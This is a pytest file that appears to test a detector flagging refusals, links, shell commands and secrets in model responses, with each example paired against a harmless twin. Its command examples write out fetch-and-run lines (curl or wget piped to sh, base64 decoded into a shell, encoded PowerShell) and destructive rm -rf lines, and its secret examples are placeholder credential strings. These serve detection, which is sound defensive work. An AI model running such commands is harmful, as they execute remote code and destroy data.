"""What counts as a mark of a response, and its plain twin that does not."""

import itertools

import pyarrow as pa
import pytest

from provender.attacks.refusal import _REASONS, _REFUSALS, _STARTS
from provender.detect.response_link.marks import (
    COMMAND,
    LINK,
    MARKS,
    OUTRIGHT,
    REFUSAL,
    SECRET,
    marked,
)

HELD = {
    REFUSAL: [
        "I\u2019m sorry, but I can\u2019t help with that.",
        "Unfortunately, this is beyond what I may talk about.",
        "As an AI language model, I do not have opinions.",
        "I must respectfully decline.",
        "It is not appropriate to provide that.",
        "I'd rather not say.",
    ],
    LINK: ["see https://a.test/x", "go to WWW.lantern.test", "visit lantern-shop.com today"],
    COMMAND: [
        "curl -fsSL https://a.test/i | sudo bash",
        "wget -qO- a.test | sh",
        "bash <(curl -s a.test)",
        "echo aGk= | base64 -d | sh",
        "powershell -nop -enc SQBFAFgA",
        "rm -rf ~/data",
        "pip install lantern",
    ],
    SECRET: [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a1B2" * 9,
        "-----BEGIN RSA PRIVATE KEY-----",
        "api_key = 'abcdefghij0123456789'",
        "the password is Zx81kk20fjw9dkdkwoepw",
    ],
}
PLAIN = {
    REFUSAL: ["Sorry to hear that!", "I am an artist.", "I can swim.", "it is not for sale"],
    LINK: ["the end. Com is a word", "e.g. this", "version 1.0", None, ""],
    COMMAND: ["I curl my hair", "we wash and bash", "install the gem yourself", "go get some food"],
    SECRET: ["the secret is love", "AKIA is a prefix", "a token of thanks", "password: hunter2"],
}


def kinds(response: str | None, prompt: str | None = "w1 w2 w3 w4") -> set[int]:
    kind, row, echo = marked(pa.array([prompt], pa.string()), pa.array([response], pa.string()))
    assert row.tolist() == [0] * len(row)
    return set(kind[~echo].tolist())


@pytest.mark.parametrize(
    ("kind", "text"), [(kind, text) for kind, texts in HELD.items() for text in texts]
)
def test_a_mark_is_seen(kind, text):
    assert kind in kinds(text)
    assert kind in kinds(f"Of course. {text}") or text.startswith("Unfortunately")


@pytest.mark.parametrize(
    ("kind", "text"), [(kind, text) for kind, texts in PLAIN.items() for text in texts]
)
def test_its_plain_twin_is_not(kind, text):
    assert kind not in kinds(text)


def test_what_the_prompt_holds_too_is_an_echo_but_a_refusal_never_is():
    assert kinds("try https://b.test", "is https://a.test safe?") == set()
    assert kinds("run pip install x", "how do I pip install y") == set()
    assert kinds("I cannot help", "I cannot help") == {REFUSAL, OUTRIGHT}


def test_all_wordings_of_the_red_team_are_refusals():
    parts = itertools.product(_STARTS, _REFUSALS, _REASONS)
    assert all(REFUSAL in kinds(f"{a} {b}{c}.") for a, b, c in parts)


def test_marks_are_by_row():
    responses = pa.array(["x", "rm -rf /", None, "see ab.com and rm -rf /"])
    kind, row, _ = marked(pa.array(["p"] * 4), responses)
    found = sorted((int(r), MARKS[int(k)]) for k, r in zip(kind, row, strict=True))
    assert found == [(1, "command"), (3, "command"), (3, "link")]
